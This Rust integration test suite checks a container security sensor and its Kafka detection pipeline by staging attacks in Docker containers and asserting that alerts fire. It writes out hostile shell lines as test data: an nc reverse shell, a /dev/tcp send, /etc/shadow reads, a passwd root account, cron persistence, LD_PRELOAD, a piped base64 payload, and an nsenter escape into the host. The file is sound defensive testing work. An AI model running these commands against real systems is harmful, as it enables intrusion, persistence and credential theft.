//! The whole path: an attack in a real container, seen by the sensor, through a real Kafka, matched by the shipped
//! detections, and read from the topic by a program that is not ours.
//!
//! Programs are named by their paths: this busybox's shell runs its own applets through `/proc/self/exe` otherwise, and
//! the kernel then calls them `exe`.

#![allow(clippy::unwrap_used, reason = "a test that fails says so by panicking")]

use std::fs;
use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use dogwatch_tests::broker::Broker;
use dogwatch_tests::cache::repository;
use dogwatch_tests::docker::{Container, IMAGE, IMAGE_REPOSITORY};
use dogwatch_tests::process::Process;
use dogwatch_tests::programs;
use dogwatch_tests::reader::{Follower, Message, committed};
use serde_json::Value;

/// For starts and for alerts on a busy machine; what an alert really takes is asserted apart.
const PATIENCE: Duration = Duration::from_secs(60);

/// Longest time from the system call to the alert that this machine, busy with a test, may need.
const LATENCY_MAX: Duration = Duration::from_secs(5);

/// A healthcheck that does what an intruder does first: opens a shell and connects.
const HEALTHCHECK: &[&str] = &[
    "--health-cmd",
    "echo healthy | nc -w 1 127.0.0.1 8080; exit 0",
    "--health-interval",
    "1s",
];

/// A broker, a processor with the shipped detections, a sensor of this host, and somebody who reads the alerts.
struct Fleet {
    alerts: Follower,
    sensor: Process,
    processor: Process,
    broker: Broker,
    folder: tempfile::TempDir,
}

impl Fleet {
    fn start() -> Fleet {
        let broker = Broker::start();
        let folder = tempfile::tempdir().unwrap();
        let log = folder.path().join("processor.log");
        let detections = repository().join("detections");
        let processor = programs::processor(&broker.address(), &detections, None, &log);
        let sensor = programs::sensor(
            &broker.address(),
            &[("HOST_TAGS__SITE", "test")],
            folder.path(),
        );
        let mut sensors = Follower::start(&broker.address(), "dogwatch.sensors");
        sensors.wait_for("the sensor's hello", PATIENCE, |status| {
            status.text("status") == "hello"
        });
        let alerts = Follower::start(&broker.address(), "dogwatch.alerts");
        Fleet {
            alerts,
            sensor,
            processor,
            broker,
            folder,
        }
    }

    /// The alert of a detection about a container whose evidence mentions a text.
    fn alert(&mut self, detection: &str, container: &Container, mention: &str) -> Message {
        let what = format!("{detection} in {} with {mention:?}", container.name);
        let sensor = self.sensor.log();
        let processor = self.processor.log();
        let fits = |alert: &Message| {
            alert.text("detection_id") == detection
                && alert.text("container_full_id") == container.id
                && alert.value["evidence"][0]["row"]
                    .as_str()
                    .is_some_and(|row| row.contains(mention))
        };
        let found = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            self.alerts.wait_for(&what, PATIENCE, fits)
        }));
        found.unwrap_or_else(|_| {
            panic!("no {what}; the sensor says\n{sensor}\nand the processor\n{processor}")
        })
    }

    /// Ends sensor and processor in order.
    fn stop(self) -> (Broker, tempfile::TempDir) {
        assert!(self.sensor.stop(PATIENCE).success());
        assert!(self.processor.stop(PATIENCE).success());
        (self.broker, self.folder)
    }
}

#[test]
#[ignore = "needs root, Docker and Kafka: ./dogwatch.sh test"]
fn every_attack_is_found_and_near_misses_stay_silent() {
    let mut fleet = Fleet::start();
    let victim = Container::idle("victim", &[&["--label", "team=shop"], HEALTHCHECK].concat());
    let quiet = Container::idle("quiet", HEALTHCHECK);
    near_misses(&quiet);

    // A shell with a terminal, by docker exec and as the container's own program.
    victim.exec(&["--tty"], &["sh", "-c", "echo by hand"]);
    let alert = fleet.alert("shell_with_terminal", &victim, "by hand");
    assert_container(&alert, &victim);
    assert_process(&alert, "exec", "sh", "/bin/busybox", "sh -c echo by hand");
    assert_meaning(&alert);
    let interactive = Container::start(
        "interactive",
        &["--tty"],
        &["sh", "-c", "echo at start; sleep 60"],
    );
    let alert = fleet.alert("shell_with_terminal", &interactive, "at start");
    assert_container(&alert, &interactive);
    assert_process(
        &alert,
        "entrypoint",
        "sh",
        "/bin/busybox",
        "sh -c echo at start; sleep 60",
    );

    // A shell on a socket: the victim calls its attacker, here on its own loopback device.
    victim
        .shell("/bin/nc -l -p 4444 </dev/null & sleep 1; /bin/nc 127.0.0.1 4444 -e /bin/sh; true");
    let alert = fleet.alert("shell_on_socket", &victim, "127.0.0.1:4444");
    assert_process(&alert, "exec", "sh", "/bin/busybox", "/bin/sh");
    let event = evidence(&alert);
    assert_eq!(
        (
            event["proc_stdin_type"].as_str(),
            event["proc_stdout_type"].as_str()
        ),
        (Some("ipv4"), Some("ipv4"))
    );

    victim.shell("/bin/cat /etc/shadow; true");
    let alert = fleet.alert("sensitive_file_read", &victim, "/etc/shadow");
    assert_process(
        &alert,
        "exec",
        "cat",
        "/bin/busybox",
        "/bin/cat /etc/shadow",
    );
    assert_file(&alert, "/etc/shadow");
    assert_eq!(alert.value["ancestors"][0]["name"], "sh");
    assert_eq!(
        alert.value["ancestors"][0]["cmdline"],
        "/bin/sh -c /bin/cat /etc/shadow; true"
    );

    victim.shell("cd /usr/bin && /bin/cp /bin/busybox ./dropped");
    let alert = fleet.alert("write_below_binary_folder", &victim, "/usr/bin/dropped");
    assert_process(
        &alert,
        "exec",
        "cp",
        "/bin/busybox",
        "/bin/cp /bin/busybox ./dropped",
    );
    assert_file(&alert, "/usr/bin/dropped");

    victim.shell("cp /bin/busybox /opt.ls; mv /opt.ls /ls; /ls /");
    let alert = fleet.alert("execution_not_in_image", &victim, "\"/ls\"");
    assert_process(&alert, "exec", "ls", "/ls", "/ls /");
    assert_eq!(evidence(&alert)["proc_exe_from"], "upper");

    victim.exec(&[], &["from-memory", "/bin/busybox", "echo", "no file"]);
    let alert = fleet.alert("execution_from_memory", &victim, "no file");
    assert_eq!(evidence(&alert)["proc_exe_from"], "memfd");
    let shared = Container::idle("shared", &["--tmpfs", "/dev/shm:rw,exec"]);
    shared.shell("cp /bin/busybox /dev/shm/echo; /dev/shm/echo shared memory");
    let alert = fleet.alert("execution_from_memory", &shared, "shared memory");
    assert_process(
        &alert,
        "exec",
        "echo",
        "/dev/shm/echo",
        "/dev/shm/echo shared memory",
    );

    victim.shell(
        "nc -l -p 4445 </dev/null & sleep 1; /usr/bin/bash -c 'echo loot >/dev/tcp/127.0.0.1/4445'; true",
    );
    let alert = fleet.alert("connection_from_shell", &victim, "4445");
    assert_eq!(alert.value["process"]["name"], "bash");
    let event = evidence(&alert);
    assert_eq!(
        (event["fd_sip"].as_str(), event["fd_sport"].as_i64()),
        (Some("127.0.0.1"), Some(4445))
    );

    victim.exec(&[], &["apt-get", "install", "nmap"]);
    let alert = fleet.alert("package_manager", &victim, "install nmap");
    assert_process(
        &alert,
        "exec",
        "apt-get",
        "/usr/bin/apt-get",
        "apt-get install nmap",
    );

    let dropped = Container::idle("one-by-one", &["--tmpfs", "/mnt"]);
    for (detection, line, mention) in ONE_BY_ONE {
        dropped.shell(line);
        let alert = fleet.alert(detection, &dropped, mention);
        assert_eq!(alert.text("proc_stage"), "exec", "{line}");
    }

    escape(&mut fleet);

    // The last word: everything before it on this host has been matched when it is there.
    quiet.shell("/bin/cat /etc/shadow; true");
    fleet.alert("sensitive_file_read", &quiet, "/etc/shadow");
    let wrong: Vec<_> = fleet
        .alerts
        .seen()
        .iter()
        .filter(|alert| alert.text("container_full_id") == quiet.id)
        .collect();
    let said: Vec<_> = wrong
        .iter()
        .map(|alert| (alert.text("detection_id"), alert.text("message")))
        .collect();
    assert_eq!(said.len(), 1, "near misses gave alerts: {said:#?}");
    for alert in fleet.alerts.seen() {
        assert_ne!(
            alert.text("proc_stage"),
            "healthcheck",
            "a healthcheck is no intruder: {}",
            alert.text("message")
        );
        assert_ne!(
            alert.text("proc_stage"),
            "runtime",
            "the runtime is no intruder: {}",
            alert.text("message")
        );
    }

    let (broker, _folder) = fleet.stop();
    assert_written_once(&committed(&broker.address(), "dogwatch.alerts"));
    assert!(committed(&broker.address(), "dogwatch.dead-letters").is_empty());
}

/// Attacks that a line of shell is enough for: the detection, the line, what the evidence mentions. What the container is not
/// allowed is tried in vain, and told all the same.
const ONE_BY_ONE: [(&str, &str, &str); 20] = [
    (
        "account_change",
        "echo x::0:0::/:/bin/sh >>/etc/passwd",
        "/etc/passwd",
    ),
    (
        "startup_change",
        "mkdir -p /etc/cron.d; echo id >/etc/cron.d/x",
        "/etc/cron.d/x",
    ),
    (
        "setuid_bit_set",
        "cp /bin/busybox /tmp/s; chmod 4755 /tmp/s",
        "04755",
    ),
    (
        "root_gained",
        "/bin/su web -c '/tmp/s id; true'; true",
        "/tmp/s id",
    ),
    (
        "link_to_secret",
        "ln -s /etc/shadow /tmp/innocent",
        "/tmp/innocent",
    ),
    (
        "search_for_credentials",
        "/bin/grep -r PRIVATE /etc; true",
        "grep -r PRIVATE",
    ),
    (
        "log_cleared",
        "mkdir -p /var/log; echo x >/var/log/auth.log; /bin/rm /var/log/auth.log",
        "/var/log/auth.log",
    ),
    ("file_below_dev", "mkdir /dev/.hidden", "/dev/.hidden"),
    (
        "loader_variable",
        "LD_PRELOAD=/tmp/evil.so /bin/true",
        "/tmp/evil.so",
    ),
    (
        "miner_command_line",
        "/bin/sleep 0 -o stratum+tcp://pool:3333; true",
        "stratum",
    ),
    (
        "piped_payload",
        "/bin/sh -c 'echo ZXhpdAo= | base64 -d | sh'",
        "base64 -d",
    ),
    (
        "cloud_metadata_contact",
        "/bin/nc -w 1 169.254.169.254 80; true",
        "169.254.169.254",
    ),
    (
        "cluster_control_contact",
        "/bin/nc -w 1 127.0.0.1 10250; true",
        "10250",
    ),
    (
        "listener_of_tool",
        "/bin/nc -l -p 4447 </dev/null & sleep 1; /bin/nc -w 1 127.0.0.1 4447 </dev/null; true",
        "4447",
    ),
    (
        "kernel_code_load",
        "/bin/insmod /etc/passwd; true",
        "insmod /etc/passwd",
    ),
    (
        "mount_in_container",
        "/bin/mount -t tmpfs stolen /mnt; true",
        "stolen",
    ),
    (
        "user_namespace_made",
        "/bin/unshare -U /bin/true; true",
        "CLONE_NEWUSER",
    ),
    ("root_changed", "/bin/chroot /mnt /x; true", "/mnt"),
    (
        "host_device_used",
        "/bin/mknod /tmp/disk b 254 0; true",
        "254:0",
    ),
    (
        "runtime_overwrite",
        "{ echo x >/proc/self/exe; } 2>/dev/null; true",
        "/proc/self/exe",
    ),
];

/// Attacks that no single event shows. Each does twice what its detection asks for: one of two neighbouring windows then
/// holds enough of it, whenever it comes.
const OVER_TIME: [OverTime; 9] = [
    OverTime {
        detection: "many_processes",
        user: "root",
        line: "i=0; while [ $i -lt 600 ]; do /bin/true; i=$((i+1)); done",
        mention: "/bin/true",
    },
    OverTime {
        detection: "fork_bomb",
        user: "root",
        line: "i=0; while [ $i -lt 1000 ]; do (:); i=$((i+1)); done",
        mention: "clone",
    },
    OverTime {
        detection: "port_scan",
        user: "root",
        line: "for port in $(seq 5001 5060); do /bin/nc 127.0.0.1 $port </dev/null; done; true",
        mention: "ECONNREFUSED",
    },
    OverTime {
        detection: "many_failed_opens",
        user: "web",
        line: "for i in $(seq 100); do /bin/cat /etc/shadow; done 2>/dev/null; true",
        mention: "/etc/shadow",
    },
    OverTime {
        detection: "mass_file_change",
        user: "root",
        line: "for i in $(seq 400); do :>/srv/$i; done; for i in $(seq 400); do echo gone >/srv/$i; done",
        mention: "/srv/",
    },
    OverTime {
        detection: "mass_file_removal",
        user: "root",
        line: "for i in $(seq 400); do :>/srv/$i.data; done; /bin/rm -r /srv/*",
        mention: ".data",
    },
    OverTime {
        detection: "slow_port_scan",
        user: "root",
        line: "for port in $(seq 5001 5060); do /bin/nc 127.0.0.1 $port </dev/null; done; true",
        mention: "ECONNREFUSED",
    },
    OverTime {
        detection: "reconnaissance",
        user: "root",
        line: "for tool in id whoami uname hostname ps env df; do /bin/$tool >/dev/null; done",
        mention: "/bin/",
    },
    OverTime {
        detection: "repeated_shells",
        user: "root",
        line: "seq 10 | /bin/xargs -n 1 /bin/sh -c 'echo command $0'",
        mention: "echo command",
    },
];

/// An attack over time, and what its alert's evidence must mention.
struct OverTime {
    detection: &'static str,
    user: &'static str,
    line: &'static str,
    mention: &'static str,
}

#[test]
#[ignore = "needs root, Docker and Kafka: ./dogwatch.sh test"]
fn attacks_over_time_are_found_before_their_window_ends_and_closed_after_it() {
    let mut fleet = Fleet::start();
    let quiet = Container::idle("quiet-over-time", &["--tmpfs", "/srv"]);
    // Too little of everything for any window.
    let less = |line: &str| {
        line.replace("600", "100")
            .replace("1000", "200")
            .replace("5060", "5020")
            .replace("seq 100", "seq 40")
            .replace("400", "80")
            .replace("seq 10 ", "seq 3 ")
            .replace("uname hostname ps", "uname")
    };
    for attack in &OVER_TIME {
        let line = less(attack.line);
        let output = quiet.exec(&["--user", attack.user], &["/bin/sh", "-c", &line]);
        assert!(output.status.success(), "{line} failed: {output:?}");
    }
    let mut first_words = Vec::new();
    for attack in &OVER_TIME {
        let container = Container::idle(&attack.detection.replace('_', "-"), &["--tmpfs", "/srv"]);
        let output = container.exec(&["--user", attack.user], &["/bin/sh", "-c", attack.line]);
        assert!(
            output.status.success(),
            "{} failed: {output:?}",
            attack.line
        );
        let alert = fleet.alert(attack.detection, &container, attack.mention);
        assert_container(&alert, &container);
        assert_eq!(
            (alert.text("window_state"), alert.text("activity")),
            ("open", "create")
        );
        assert!(
            alert.text("message").contains(&container.name),
            "{}",
            alert.text("message")
        );
        first_words.push((
            alert.text("alert_id").to_owned(),
            attack.detection,
            container,
        ));
    }

    // The last word on each window that lasts no longer than a minute, under the same identity, once its host's time has
    // passed its end.
    for (id, detection, _container) in &first_words {
        if ["repeated_shells", "slow_port_scan"].contains(detection) {
            continue;
        }
        let what = format!("the close of {detection}");
        let closed = fleet.alerts.wait_for(&what, 3 * PATIENCE, |alert| {
            alert.text("alert_id") == id && alert.text("window_state") == "closed"
        });
        assert_eq!(closed.text("activity"), "update", "{detection}");
        assert!(
            closed.number("alert_ts") > closed.number("window_end"),
            "{detection}"
        );
    }
    let wrong = fleet
        .alerts
        .seen()
        .iter()
        .filter(|alert| alert.text("container_full_id") == quiet.id);
    let said: Vec<_> = wrong.map(|alert| alert.text("message")).collect();
    assert!(
        said.is_empty(),
        "less than an attack gave alerts: {said:#?}"
    );

    let (broker, _folder) = fleet.stop();
    assert_written_once(&committed(&broker.address(), "dogwatch.alerts"));
}

/// What looks like an attack and is none.
fn near_misses(container: &Container) {
    container.shell("ls -l /etc/shadow /usr/bin; cat /etc/passwd");
    container.shell("echo data >/tmp/file; cp /bin/busybox /tmp/copy");
    container.shell("echo plain client | nc 127.0.0.1 4444; true");
    container.exec(
        &["--user", "web"],
        &[
            "sh",
            "-c",
            "cat /etc/shadow; cp /bin/busybox /usr/bin/dropped",
        ],
    );
    container.exec(&[], &["cat", "/usr/bin/apt-get"]);
    container.exec(&[], &["/usr/bin/apt-get-is-not-here", "install"]);
    container.exec(&["--tty"], &["ls", "/"]);
}

/// Out of the container: into the host's mount namespace, and a line for its cron.
fn escape(fleet: &mut Fleet) {
    const TARGET: &str = "/etc/cron.d/dogwatch-test";
    let options = [
        "--pid",
        "host",
        "--cap-add",
        "SYS_ADMIN",
        "--cap-add",
        "SYS_PTRACE",
    ];
    let container = Container::idle("escape", &options);
    let line = format!("echo '# written by a test' >{TARGET}");
    // Any process of the host will do; the very first may be out of reach even for root.
    let target = std::process::id().to_string();
    let enter = ["nsenter", "-t", &target, "-m", "--", "/bin/sh", "-c", &line];
    let output = container.exec(&[], &enter);
    let written = fs::remove_file(TARGET);
    assert!(
        output.status.success() && written.is_ok(),
        "the escape itself failed: {output:?}"
    );
    fleet.alert("namespace_entered", &container, "nsenter");
    let alert = fleet.alert("write_to_host_path", &container, TARGET);
    assert_container(&alert, &container);
    assert_eq!(evidence(&alert)["proc_in_host_mntns"], true);
}

#[test]
#[ignore = "needs root, Docker and Kafka: ./dogwatch.sh test"]
fn run_exec_and_healthcheck_are_told_apart() {
    let mut fleet = Fleet::start();
    let healthcheck = [
        "--health-cmd",
        "/bin/echo from the healthcheck",
        "--health-interval",
        "1s",
    ];
    let container = Container::start(
        "stages",
        &healthcheck,
        &["sh", "-c", "/bin/echo from the start; sleep 600"],
    );
    container.exec(&[], &["sh", "-c", "/bin/echo from exec; true"]);
    let mut events = Follower::start(&fleet.broker.address(), "dogwatch.events");
    for (mention, stage, parent) in [
        ("from the start", "entrypoint", Some("sh")),
        ("from exec", "exec", Some("sh")),
        ("from the healthcheck", "healthcheck", None),
    ] {
        let fits = |event: &Message| {
            event.text("evt_type") == "execve"
                && event.text("proc_cmdline").starts_with("/bin/echo")
                && event.text("proc_cmdline").contains(mention)
        };
        let event = events.wait_for(mention, PATIENCE, fits);
        assert_eq!(event.text("proc_stage"), stage, "{mention}");
        assert_eq!(event.text("container_full_id"), container.id);
        assert_eq!(event.text("container_name"), container.name);
        assert_eq!(event.text("proc_name"), "echo");
        if let Some(parent) = parent {
            assert_eq!(event.text("proc_pname"), parent);
        }
        assert_eq!(event.timestamp_type.as_deref(), Some("append"));
        assert_eq!(event.key, event.text("host_id"));
    }
    // Restarted in between, the sensor still knows who is who.
    let Fleet {
        sensor,
        processor,
        broker,
        folder,
        alerts,
    } = fleet;
    assert!(sensor.stop(PATIENCE).success());
    let sensor = programs::sensor(&broker.address(), &[], folder.path());
    let mut sensors = Follower::start(&broker.address(), "dogwatch.sensors");
    sensors.wait_for("goodbye", PATIENCE, |status| {
        status.text("status") == "goodbye"
    });
    sensors.wait_for("blind time", PATIENCE, |status| {
        status.value["losses"].to_string().contains("not_watching")
    });
    let running = |event: &Message| {
        event.text("evt_type") == "running" && event.text("container_full_id") == container.id
    };
    let event = events.wait_for("the running container", PATIENCE, |event| {
        running(event) && event.value["proc_vpid"] == 1
    });
    assert_eq!(event.text("proc_stage"), "entrypoint");
    container.exec(&[], &["sh", "-c", "/bin/echo once more; true"]);
    let event = events.wait_for("an exec after the restart", PATIENCE, |event| {
        event.text("proc_cmdline") == "/bin/echo once more"
    });
    assert_eq!(
        (event.text("proc_stage"), event.text("container_name")),
        ("exec", container.name.as_str())
    );
    fleet = Fleet {
        sensor,
        processor,
        broker,
        folder,
        alerts,
    };
    fleet.stop();
}

/// The evidence's row: the event as it came to the processor.
fn evidence(alert: &Message) -> Value {
    serde_json::from_str(alert.value["evidence"][0]["row"].as_str().unwrap()).unwrap()
}

fn assert_container(alert: &Message, container: &Container) {
    let (repository, tag) = IMAGE.split_once(':').unwrap();
    assert_eq!(repository, IMAGE_REPOSITORY);
    for (field, expected) in [
        ("container_id", container.short_id()),
        ("container_full_id", &container.id),
        ("container_name", &container.name),
        ("container_image", IMAGE),
        ("container_image_repository", repository),
        ("container_image_tag", tag),
    ] {
        assert_eq!(alert.text(field), expected, "{field}");
    }
    assert_eq!(alert.value["container_privileged"], false);
    let image =
        dogwatch_tests::docker::docker(&["inspect", "--format", "{{.Image}}", &container.id]);
    let event = evidence(alert);
    // Only rows of successful execs tell a container in full.
    let told = match (&event["evt_type"], &event["evt_failed"]) {
        (Value::String(call), Value::Bool(false)) if call == "execve" => {
            image.trim_start_matches("sha256:").into()
        }
        _ => Value::Null,
    };
    assert_eq!(event["container_image_id"], told);
}

fn assert_process(alert: &Message, stage: &str, name: &str, exepath: &str, cmdline: &str) {
    let process = &alert.value["process"];
    assert_eq!(alert.text("proc_stage"), stage, "{}", alert.text("message"));
    assert_eq!(process["name"], name);
    assert_eq!(process["exepath"], exepath);
    assert_eq!(process["cmdline"], cmdline);
    assert_eq!(
        (process["uid"].as_i64(), process["user_name"].as_str()),
        (Some(0), Some("root"))
    );
    assert!(process["pid"].as_i64() > Some(1) && process["key"].as_str().unwrap().len() == 16);
    let age = alert.number("event_ts") - process["start"].as_i64().unwrap();
    assert!(
        (0..60_000_000_000).contains(&age),
        "the process started {age} ns before its event"
    );
}

fn assert_file(alert: &Message, name: &str) {
    let event = evidence(alert);
    assert_eq!(event["fd_name"], name);
    assert_eq!(
        event["fd_filename"],
        Path::new(name).file_name().unwrap().to_str().unwrap()
    );
    assert_eq!(event["evt_outcome"], "success");
    assert_eq!(event["evt_path_source"], "kernel");
}

/// What must hold of every alert, looked at in one.
fn assert_meaning(alert: &Message) {
    let machine = fs::read_to_string("/etc/machine-id").unwrap();
    let host = fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    assert_eq!(alert.text("host_id"), machine.trim());
    assert_eq!(alert.text("host_name"), host.trim());
    assert_eq!(alert.value["host_tags"]["site"], "test");
    assert_eq!(alert.value["container_labels"]["team"], "shop");
    assert_eq!(alert.key, alert.text("dedup_key"));
    assert_eq!(alert.timestamp_type.as_deref(), Some("append"));
    assert_eq!(
        (alert.text("mode"), alert.value["incomplete"].as_bool()),
        ("live", Some(false))
    );
    assert!(!alert.text("message").is_empty() && !alert.text("message").contains('{'));
    for field in [
        "detection_title",
        "detection_description",
        "severity",
        "priority",
    ] {
        assert!(!alert.text(field).is_empty(), "{field}");
    }
    assert!(alert.value["attack"][0].as_str().unwrap().starts_with('T'));
    assert_eq!(
        (
            alert.text("alert_id").len(),
            alert.text("detection_hash").len()
        ),
        (32, 16)
    );
    assert_eq!(alert.value["evidence"][0]["topic"], "dogwatch.events");

    let now_ns = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i64;
    let (event, ingest, said) = (
        alert.number("event_ts"),
        alert.number("ingest_ts"),
        alert.number("alert_ts"),
    );
    assert!(
        event <= ingest + 1_000_000 && ingest <= said && said <= now_ns,
        "{event} {ingest} {said} {now_ns}"
    );
    let latency = Duration::from_nanos((said - event) as u64);
    println!("system call to alert: {latency:?}");
    assert!(
        latency < LATENCY_MAX,
        "{latency:?} from system call to alert"
    );
}

/// Every alert has an identity of its own, and of a window two words at most: the first and the last.
fn assert_written_once(alerts: &[Message]) {
    let word = |alert: &Message| {
        (
            alert.text("alert_id").to_owned(),
            alert.text("window_state").to_owned(),
        )
    };
    let mut identities: Vec<_> = alerts.iter().map(word).collect();
    identities.sort_unstable();
    identities.dedup();
    assert_eq!(identities.len(), alerts.len(), "an alert was written twice");
}
